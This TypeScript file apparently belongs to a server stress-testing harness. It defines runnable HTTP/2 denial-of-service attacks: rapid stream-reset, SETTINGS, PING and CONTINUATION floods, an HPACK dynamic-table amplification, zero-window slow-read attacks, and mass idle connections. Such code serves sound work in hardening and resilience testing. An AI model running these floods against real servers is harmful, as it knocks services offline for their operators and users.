/**
 * Attacks on HTTP/2's own means: header blocks and frames that do not end, windows, SETTINGS, HPACK's table, answers
 * that nobody reads, connections that do nothing.
 */
import type net from 'node:net'
import { during, wait, type Attacker } from './attacker.ts'
import type { Attack } from './attack.ts'
import { fields, frame, HELLO, request } from './http2-frames.ts'

const [END_STREAM, END_HEADERS] = [1, 4]
const GET = END_STREAM | END_HEADERS
const upload = fields([':method', 'POST'], [':scheme', 'http'], [':authority', 'a'], [':path', '/sink'])
const word = (n: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(n)
  return bytes
}
const setting = (id: number, value: number): Buffer => Buffer.concat([Buffer.from([0, id]), word(value)])
const WINDOW = 4
const gets = (n: number, path: string, first = 1): Buffer =>
  Buffer.concat(Array.from({ length: n }, (_, s) => frame('headers', GET, first + 2 * s, request(path))))
const many = (n: number, one: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: n }, (_, i) => one(i)))

/** A few at a time: a listener's queue is short. */
async function open(
  a: Attacker,
  port: number,
  n: number,
  bytes: Buffer,
  p: { readonly reads: boolean },
): Promise<net.Socket[]> {
  const sockets: net.Socket[] = []
  for (let i = 0; i < n; i++) {
    const socket = await a.connect(port)
    if (p.reads) socket.resume()
    else socket.pause()
    void a.write(socket, bytes)
    sockets.push(socket)
    if (i % 20 === 0) await wait(1)
  }
  return sockets
}

/** A field of 3,900 bytes that enters HPACK's table (RFC 7541 §6.2.1). */
const LARGE_FIELD = Buffer.concat([
  Buffer.from([0x40, 1]),
  Buffer.from('x'),
  Buffer.from([0x7f, 0xbd, 0x1d]),
  Buffer.alloc(3_900, 'b'),
])
/** Its index: the first of the dynamic table. */
const LARGE_INDEX = 0x80 | 62
const bomb = (n: number): Buffer =>
  many(n, (s) =>
    frame(
      'headers',
      GET,
      2 * s + 1,
      Buffer.concat([request('/'), s === 0 ? LARGE_FIELD : Buffer.alloc(0), Buffer.alloc(14, LARGE_INDEX)]),
    ),
  )

/** One kind of frame in floods, on a connection of its own each time. */
const flood = (name: string, bytes: Buffer): Attack => ({
  name: `http2 in floods: ${name}`,
  against: 'memory',
  run: (a, p, ms) =>
    during(ms, async () => {
      await a.say(p.web, HELLO, bytes)
      await wait(10)
    }),
})
const reset = (stream: number): Buffer => frame('rst', 0, stream, Buffer.alloc(4))

export const HTTP2_ATTACKS: readonly Attack[] = [
  flood(
    'streams that are reset at once',
    many(1_000, (s) => Buffer.concat([frame('headers', GET, 2 * s + 1, request('/big')), reset(2 * s + 1)])),
  ),
  flood(
    'SETTINGS',
    many(5_000, () => frame('settings', 0, 0)),
  ),
  flood(
    'PING',
    many(3_000, () => frame('ping', 0, 0, Buffer.alloc(8))),
  ),
  flood(
    'header blocks without an end',
    Buffer.concat([
      frame('headers', 0, 1, request('/')),
      many(1_000, (i) => frame('continuation', 0, 1, fields([`x-${i}`, 'y'.repeat(100)]))),
    ]),
  ),
  {
    name: 'http2: 1,000 header blocks of 130 kB that do not end',
    against: 'memory',
    async run(a, p, ms) {
      const half = Buffer.concat([
        HELLO,
        frame('headers', 0, 1, request('/')),
        many(30, () => frame('continuation', 0, 1, Buffer.alloc(4_300))),
      ])
      await open(a, p.web, 1_000, half, { reads: true })
      await wait(ms)
    },
  },
  {
    name: 'http2: 2,000 frames that promise 16 KiB and bring a byte',
    against: 'memory',
    async run(a, p, ms) {
      const promise = frame('headers', GET, 1, Buffer.alloc(16_384)).subarray(0, 10)
      await open(a, p.web, 2_000, Buffer.concat([HELLO, promise]), { reads: true })
      await wait(ms)
    },
  },
  {
    name: 'http2: header blocks in empty pieces',
    against: 'memory',
    run: (a, p, ms) =>
      during(ms, async () => {
        await a.say(
          p.web,
          HELLO,
          frame('headers', 0, 1, request('/')),
          many(1_000, () => frame('continuation', 0, 1)),
        )
        await wait(5)
      }),
  },
  {
    name: 'http2: 2,000 connections that say hello',
    against: 'counting',
    async run(a, p, ms) {
      await open(a, p.web, 2_000, HELLO, { reads: true })
      await wait(ms / 2)
    },
  },
  {
    name: 'http2: answers for windows of 0',
    against: 'memory',
    async run(a, p, ms) {
      await open(a, p.web, 40, Buffer.concat([HELLO, frame('settings', 0, 0, setting(WINDOW, 0)), gets(100, '/big')]), {
        reads: true,
      })
      await wait(ms)
    },
  },
  {
    name: 'http2: windows that are opened by a byte at a time',
    against: 'memory',
    async run(a, p, ms) {
      const sockets = await open(
        a,
        p.web,
        40,
        Buffer.concat([HELLO, frame('settings', 0, 0, setting(WINDOW, 0)), gets(100, '/big')]),
        { reads: true },
      )
      await during(ms, async () => {
        for (const socket of sockets)
          void a.write(
            socket,
            many(100, (s) => frame('windowUpdate', 0, 2 * s + 1, word(1))),
          )
        await wait(20)
      })
    },
  },
  {
    name: 'http2: the windows of all streams, up and down',
    against: 'memory',
    async run(a, p, ms) {
      const flips = frame(
        'settings',
        0,
        0,
        many(64, (i) => setting(WINDOW, i % 2)),
      )
      await during(ms, async () => {
        const [socket] = await open(
          a,
          p.web,
          1,
          Buffer.concat([HELLO, frame('settings', 0, 0, setting(WINDOW, 0)), gets(100, '/big')]),
          { reads: true },
        )
        await wait(20)
        await a.write(
          socket!,
          many(190, () => flips),
        )
      })
    },
  },
  {
    name: 'http2: small answers that nobody reads, of 400 connections',
    against: 'memory',
    async run(a, p, ms) {
      const sockets = await open(a, p.web, 400, HELLO, { reads: false })
      await during(ms, async (n) => {
        for (const socket of sockets) {
          void a.write(socket, gets(10, '/', 20 * n + 1))
          if (socket.destroyed) continue
        }
        await wait(30)
      })
    },
  },
  {
    name: 'http2: heads of 55 kB that take 20 bytes each',
    against: 'memory',
    run: (a, p, ms) =>
      during(ms, async () => {
        await a.say(p.web, HELLO, bomb(100))
        await wait(20)
      }),
  },
  {
    name: 'http2: bodies in frames of a byte',
    against: 'memory',
    async run(a, p, ms) {
      const bytes = many(2_000, () => frame('data', 0, 1, Buffer.from('x')))
      await during(ms, async () => {
        const [socket] = await open(a, p.web, 1, Buffer.concat([HELLO, frame('headers', END_HEADERS, 1, upload)]), {
          reads: true,
        })
        for (let i = 0; i < 5; i++) await a.write(socket!, bytes)
        await wait(10)
      })
    },
  },
]
